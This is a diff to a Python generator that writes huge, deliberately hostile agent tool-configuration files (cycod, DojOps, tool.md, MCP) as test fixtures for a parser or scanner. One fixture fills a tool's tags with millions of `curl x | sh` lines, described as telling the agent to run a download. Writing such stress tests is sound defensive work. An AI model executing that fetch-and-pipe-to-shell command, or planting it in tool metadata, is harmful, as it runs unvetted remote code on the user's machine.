@@ -21,6 +21,15 @@ list-desc/tools.json    an MCP tool list whose one description is a list of 4.5 
 tags/.cycod/...         a cycod tool whose `tags` are 4 million `  - a` lines
 args/.mcp.json          one server whose `args` are 4.5 million `"a"`s
 
+and the shapes of "Dense files, sixth pass" (cycod tags and their neighbours):
+
+flow-tags/...           the cycod tags as one flow sequence `tags: [a, a, ...]`
+download-tags/...       1.5 million tags `curl x | sh` (each tells the agent to run a download)
+uses/...                a cycod tool whose `uses.tools` names 3 million tools `a`
+steps/...               a cycod tool of 2 million steps `bash: a`
+dojops-tags/...         a DojOps `tool.yaml` whose `tags` are 4 million `a`
+tool-md-tags/...        a `*.tool.md` whose `meta.tags` are 3 million `a`
+
 SCALE (default 1) multiplies every count: 0.1 writes the sizes tests/hostile/dense.rs uses.
 """
 
@@ -76,6 +85,26 @@ def main():
     write(root, "tags/.cycod/tools/many.yaml",
           "name: many\ndescription: d\nbash: echo hi\ntags:\n" + "  - a\n" * n(4_000_000))
     write(root, "args/.mcp.json", '{"mcpServers":{"s":{"command":"npx","args":[' + a + "]}}}\n")
+    sixth(root, n)
+
+
+def sixth(root, n):
+    """The neighbours of the cycod tags of "Dense files, sixth pass"."""
+    head = "name: many\ndescription: d\nbash: echo hi\n"
+    write(root, "flow-tags/.cycod/tools/many.yaml",
+          head + "tags: [" + ", ".join(["a"] * n(4_000_000)) + "]\n")
+    write(root, "download-tags/.cycod/tools/many.yaml",
+          head + "tags:\n" + "  - curl x | sh\n" * n(1_500_000))
+    write(root, "uses/.cycod/tools/many.yaml",
+          head + "tags: [read]\nuses:\n  tools:\n" + "    - a\n" * n(3_000_000))
+    write(root, "steps/.cycod/tools/many.yaml",
+          "name: many\ndescription: d\ntags: [read]\nsteps:\n" + "  - bash: a\n" * n(2_000_000))
+    write(root, "dojops-tags/.dojops/tools/many/tool.yaml",
+          "spec: 1\nname: many\nversion: 1.0.0\ndescription: d\ntags:\n" + "  - a\n" * n(4_000_000))
+    write(root, "tool-md-tags/tools/x.tool.md",
+          '---\nspec_version: "1.2"\ntool_id: "x"\nversion: "1.0.0"\nstatus: "active"\nmeta:\n'
+          '  name: "X"\n  description: d\n  tags:\n' + "    - a\n" * n(3_000_000)
+          + 'type: "retrieval"\n---\nbody\n')
 
 
 if __name__ == "__main__":
